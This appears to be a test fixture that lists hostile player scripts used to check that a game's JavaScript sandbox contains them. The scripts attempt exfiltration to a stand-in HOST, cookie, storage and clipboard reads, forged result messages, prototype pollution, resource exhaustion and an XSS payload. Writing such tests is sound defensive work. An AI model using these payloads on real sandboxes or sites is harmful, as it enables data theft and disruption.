/**
 * Trails players that try to escape from their engine. Each entry is the player's code before the first round. `HOST`
 * is replaced by a forbidden address, `SECRET` by a text that no player may see. A successful attack calls `got(what)`.
 */
export const HOSTILE: Readonly<Record<string, string>> = {
  'an import in a template literal after an HTML comment': `let a = 1, b = 2;
a
<!-- b; got(\`\${await import('HOST/template.js')}\`)
;`,
  'an import that a line break and a comment hide': `try { got(await import/* */
  ('HOST/comment.js')); } catch {}`,
  'an import by the address of a script':
    "try { got(await import('data:text/javascript,export default 1')); } catch {}",
  'a JSON module of what is served': `for (const path of ['/api/folder', 'HOST/data.json'])
  try { got(JSON.stringify((await import(path, { with: { type: 'json' } })).default)); } catch {}`,
  'the constructors of functions': `for (const made of [() => {}, async () => {}, function* () {}, async function* () {}])
  try { const all = made.constructor('return globalThis')(); if (all.fetch || all.navigator) got('a browser'); } catch {}`,
  'code made of text': `for (const run of [globalThis.eval, (text) => (0, eval)(text), (text) => Function(text)()])
  try { if (run('typeof fetch') === 'function') got('fetch'); run("fetch('HOST/eval')"); run("import('HOST/eval.js')"); } catch {}`,
  'every way to a network': `for (const use of [
  () => fetch('HOST/fetch'),
  () => { const asked = new XMLHttpRequest(); asked.open('GET', 'HOST/xhr'); asked.send(); },
  () => new WebSocket('HOST/socket'.replace('http', 'ws')),
  () => new EventSource('HOST/events'),
  () => new WebTransport('HOST/transport'),
  () => new RTCPeerConnection({ iceServers: [{ urls: 'HOST'.replace('http://', 'stun:') }] }).createDataChannel(''),
  () => importScripts('HOST/script.js'),
  () => navigator.sendBeacon('HOST/beacon', 'x'),
  () => { new Image().src = 'HOST/image'; },
  () => { location.href = 'HOST/location'; },
  () => open('HOST/window'),
]) try { use(); got(use); } catch {}`,
  'what the page keeps': `for (const use of [
  () => localStorage.getItem('private'), () => sessionStorage.length, () => indexedDB.databases(), () => caches.keys(),
  () => navigator.storage.getDirectory(), () => document.cookie, () => cookieStore.getAll(), () => navigator.clipboard.readText(),
]) try { got(await use()); } catch {}`,
  'forged news of the match': `for (const to of [globalThis, globalThis.self, globalThis.parent, globalThis.opener])
  try { to.postMessage({ type: 'done', replay: 'forged', scores: [1, 0], reason: 'forged', verdicts: [] }, '*'); got('postMessage'); } catch {}`,
  'other workers and channels': `for (const use of [
  () => new Worker('HOST/worker.js'), () => new SharedWorker('HOST/shared.js'), () => new BroadcastChannel('ludus'),
  () => new MessageChannel(), () => navigator.serviceWorker.register('HOST/service.js'), () => addEventListener('message', got),
]) try { use(); got(use); } catch {}`,
  'prototypes that every message has': `Object.prototype.type = 'done';
Object.prototype.replay = 'forged';
Object.prototype.toJSON = () => 'forged';
Object.defineProperty(Object.prototype, 'message', { get: () => 'forged', set() {} });
Object.prototype.then = (done) => done('forged');`,
  'functions that the game uses': `JSON.parse = JSON.stringify = Array.from = () => 'forged';
Array.prototype.push = Array.prototype[Symbol.iterator] = String.prototype.slice = () => { throw 'forged'; };
Int32Array.prototype.set = Math.trunc = () => NaN;`,
  'a loop without an end as it is loaded': 'for (;;);',
  'promises without an end': 'const on = () => Promise.resolve().then(on); await on();',
  'memory without an end': 'for (let all = ["x"], n = 0; ; n++) all = [...all, "x".repeat(2 ** 20) + n];',
  'an array that takes all memory': 'for (const all = []; ; ) all.push(new Uint8Array(2 ** 30).fill(7));',
  'calls without an end': 'const deep = () => [deep()]; deep();',
  WebAssembly: `const bytes = new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]);
try { got(new WebAssembly.Module(bytes)); got(new WebAssembly.Memory({ initial: 60000 })); } catch {}`,
  'the engine it runs in': `for (const name of ['std', 'os', 'bjson', 'scriptArgs', 'process', 'require', 'Deno', 'Bun', 'module'])
  if (globalThis[name] !== undefined) got(name);
for (const name of ['std', 'os', 'qjs:std', 'qjs:os', 'node:fs', 'fs']) try { got(await import(name)); } catch {}`,
  'who called it': `Error.prepareStackTrace = (_, sites) => sites;
try { for (const site of new Error().stack) got(site.getThis()); } catch {}
try { (function f() { if (f.caller) got(f.caller); if (arguments.callee.caller) got(arguments.callee.caller); })(); } catch {}
try { if (/^(?:http|blob|file)/.test(import.meta.url)) got(import.meta.url); } catch {}`,
  'a map of its source': '//# sourceMappingURL=HOST/map.json\n//# sourceURL=HOST/source.js',
  'HTML in what it says': `const html = '<img src="HOST/log.png" onerror="fetch(\\'HOST/log\\')"><script src="HOST/log.js"></script>';
throw Object.assign(new Error(html), { name: html });`,
};
